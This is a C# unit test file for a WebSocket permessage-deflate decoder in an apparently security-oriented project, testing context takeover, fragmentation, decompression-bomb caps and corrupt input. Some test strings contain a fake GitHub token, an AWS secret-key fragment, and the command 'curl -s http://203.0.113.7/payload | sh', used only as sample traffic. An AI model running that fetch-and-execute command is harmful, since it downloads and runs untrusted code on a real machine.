using System.IO.Compression;
using System.Text;
using ClawSec.Core.Decoding;
using static ClawSec.Core.Tests.Decoding.WebSocketFrames;

namespace ClawSec.Core.Tests.Decoding;

public sealed class PerMessageDeflateTests
{
    private static readonly WebSocketDecoderOptions Negotiated = new() { PerMessageDeflate = true };

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Compressed(byte[] compressedPayload, byte[]? maskKey = null, WebSocketOpcode opcode = WebSocketOpcode.Text) =>
        Frame(opcode, compressedPayload, maskKey: maskKey, rsv1: true);

    [Fact]
    public void Compressed_message_yields_the_decompressed_text()
    {
        using var deflater = new PerMessageDeflater();
        const string text = "Authorization: Bearer ghp_0123456789abcdefghijklmnopqrstuvwxyz";

        var sink = Decode.All(Compressed(deflater.Compress(Utf8(text)), ClientKey), Negotiated);

        Assert.Equal([text], sink.Texts);
    }

    [Fact]
    public void Second_message_using_the_first_ones_window_decodes_with_context_takeover()
    {
        using var deflater = new PerMessageDeflater();
        const string text = "the quick brown fox jumps over the lazy dog; AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG";
        var first = deflater.Compress(Utf8(text));
        var second = deflater.Compress(Utf8(text));
        Assert.True(second.Length < 20, "the second message should be little more than a back-reference");

        var sink = Decode.All(Concat(Compressed(first), Compressed(second)), Negotiated);

        Assert.Equal([text, text], sink.Texts);
    }

    [Fact]
    public void Back_reference_into_a_window_the_decoder_never_saw_fails_the_decoder()
    {
        using var deflater = new PerMessageDeflater();
        const string text = "the quick brown fox jumps over the lazy dog";
        deflater.Compress(Utf8(text));
        var second = deflater.Compress(Utf8(text));

        var sink = new RecordingSink();
        using var decoder = new WebSocketFrameDecoder(sink, Negotiated);
        decoder.Push(Compressed(second));

        Assert.Equal(WebSocketDecoderError.InvalidCompressedData, decoder.Error);
        Assert.Single(sink.Messages);
    }

    [Fact]
    public void Messages_each_compressed_alone_decode_with_no_context_takeover()
    {
        using var deflater = new PerMessageDeflater(noContextTakeover: true);
        string[] texts = ["same text, same text", "same text, same text", "different text"];
        var wire = Concat([.. texts.Select(t => Compressed(deflater.Compress(Utf8(t)), ClientKey))]);

        var sink = Decode.All(wire, Negotiated with { NoContextTakeover = true });

        Assert.Equal(texts, sink.Texts);
    }

    [Fact]
    public void No_context_takeover_also_decodes_when_the_option_was_not_set()
    {
        // A sender may reset its window without having to: the references it makes are then all in-message.
        using var deflater = new PerMessageDeflater(noContextTakeover: true);
        string[] texts = ["one two three one two three", "four five four five"];
        var wire = Concat([.. texts.Select(t => Compressed(deflater.Compress(Utf8(t))))]);

        Assert.Equal(texts, Decode.All(wire, Negotiated).Texts);
    }

    [Fact]
    public void Compressed_fragmented_message_with_a_ping_between_fragments_is_one_message()
    {
        using var deflater = new PerMessageDeflater();
        var text = string.Concat(Enumerable.Repeat("curl -s http://203.0.113.7/payload | sh; ", 40));
        var compressed = deflater.Compress(Utf8(text));
        int third = compressed.Length / 3;
        var wire = Concat(
            Frame(WebSocketOpcode.Text, compressed.AsSpan(0, third), fin: false, maskKey: ClientKey, rsv1: true),
            Frame(WebSocketOpcode.Continuation, compressed.AsSpan(third, third), fin: false, maskKey: ClientKey),
            Frame(WebSocketOpcode.Ping, "ping"u8, maskKey: ClientKey),
            Frame(WebSocketOpcode.Continuation, compressed.AsSpan(2 * third), maskKey: ClientKey));

        var sink = Decode.All(wire, Negotiated);

        Assert.Equal([text], sink.Texts);
        Assert.Equal(WebSocketOpcode.Ping, Assert.Single(sink.ControlFrames).Opcode);
    }

    [Fact]
    public void Compressed_and_uncompressed_messages_may_alternate()
    {
        using var deflater = new PerMessageDeflater();
        var wire = Concat(
            Compressed(deflater.Compress(Utf8("first, compressed"))),
            Text("second, plain"),
            Compressed(deflater.Compress(Utf8("third, compressed")), opcode: WebSocketOpcode.Binary));

        var sink = Decode.All(wire, Negotiated);

        Assert.Equal(["first, compressed", "second, plain", "third, compressed"], sink.Texts);
        Assert.Equal(WebSocketOpcode.Binary, sink.Messages[2].Opcode);
    }

    [Fact]
    public void Empty_compressed_messages_are_empty_messages()
    {
        using var deflater = new PerMessageDeflater();
        var wire = Concat(
            Compressed(deflater.Compress([])),
            Compressed(deflater.Compress(Utf8("between"))),
            Compressed(deflater.Compress([])));

        Assert.Equal(["", "between", ""], Decode.All(wire, Negotiated).Texts);
    }

    [Fact]
    public void Message_ended_by_a_final_block_is_followed_by_a_fresh_stream()
    {
        var wire = Concat(
            Compressed(PerMessageDeflater.CompressFinal(Utf8("final block here"))),
            Compressed(PerMessageDeflater.CompressFinal(Utf8("and a new stream here"))));

        Assert.Equal(["final block here", "and a new stream here"], Decode.ByteByByte(wire, Negotiated).Texts);
    }

    [Fact]
    public void Bytes_after_a_final_block_in_the_same_message_are_ignored()
    {
        byte[] payload = [.. PerMessageDeflater.CompressFinal(Utf8("real")), .. "not deflate at all"u8];

        Assert.Equal(["real"], Decode.All(Compressed(payload), Negotiated).Texts);
    }

    [Fact]
    public void Large_compressed_message_is_yielded_exactly()
    {
        var payload = Enumerable.Range(0, 1_000_000).Select(i => (byte)(i % 13 == 0 ? i / 13 : 'x')).ToArray();
        using var deflater = new PerMessageDeflater(CompressionLevel.Fastest);

        var sink = Decode.Chunks(Compressed(deflater.Compress(payload), ClientKey, WebSocketOpcode.Binary).Chunk(1500), Negotiated);

        Assert.Equal(payload, Assert.Single(sink.Messages).Payload);
    }

    [Fact]
    public void Decompression_bomb_stops_at_the_default_cap_and_later_messages_still_decode()
    {
        using var deflater = new PerMessageDeflater(CompressionLevel.SmallestSize);
        var bomb = deflater.Compress(new byte[WebSocketDecoderOptions.DefaultMaxDecompressedMessageBytes + (4 << 20)]);
        Assert.True(bomb.Length < 64 * 1024);
        var wire = Concat(Compressed(bomb, opcode: WebSocketOpcode.Binary), Compressed(deflater.Compress(Utf8("after the bomb"))));

        var sink = Decode.All(wire, Negotiated);

        Assert.Equal(WebSocketDecoderOptions.DefaultMaxDecompressedMessageBytes, sink.Messages[0].Payload.Length);
        Assert.Equal("after the bomb", sink.Texts[1]);
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public void Output_beyond_a_configured_cap_is_not_yielded(bool noContextTakeover)
    {
        using var deflater = new PerMessageDeflater(noContextTakeover: noContextTakeover);
        var big = Utf8(new string('A', 100_000));
        var wire = Concat(
            Compressed(deflater.Compress(big)),
            Compressed(deflater.Compress(Utf8("small"))),
            Compressed(deflater.Compress(big)));
        var options = Negotiated with { NoContextTakeover = noContextTakeover, MaxDecompressedMessageBytes = 1000 };

        var sink = Decode.ByteByByte(wire, options);

        Assert.Equal([new string('A', 1000), "small", new string('A', 1000)], sink.Texts);
    }

    [Fact]
    public void Cap_of_zero_yields_empty_compressed_messages()
    {
        using var deflater = new PerMessageDeflater();

        var sink = Decode.All(Compressed(deflater.Compress(Utf8("hidden"))), Negotiated with { MaxDecompressedMessageBytes = 0 });

        Assert.Equal([""], sink.Texts);
    }

    [Fact]
    public void Invalid_compressed_data_fails_the_decoder_and_ends_the_message()
    {
        // BTYPE 11 is reserved in DEFLATE.
        var sink = new RecordingSink();
        using var decoder = new WebSocketFrameDecoder(sink, Negotiated);

        decoder.Push(Compressed([0xFF, 0xFF, 0xFF], ClientKey));
        decoder.Push(Text("ignored"));

        Assert.Equal(WebSocketDecoderError.InvalidCompressedData, decoder.Error);
        Assert.Equal(["Text "], sink.Transcript);
    }
}
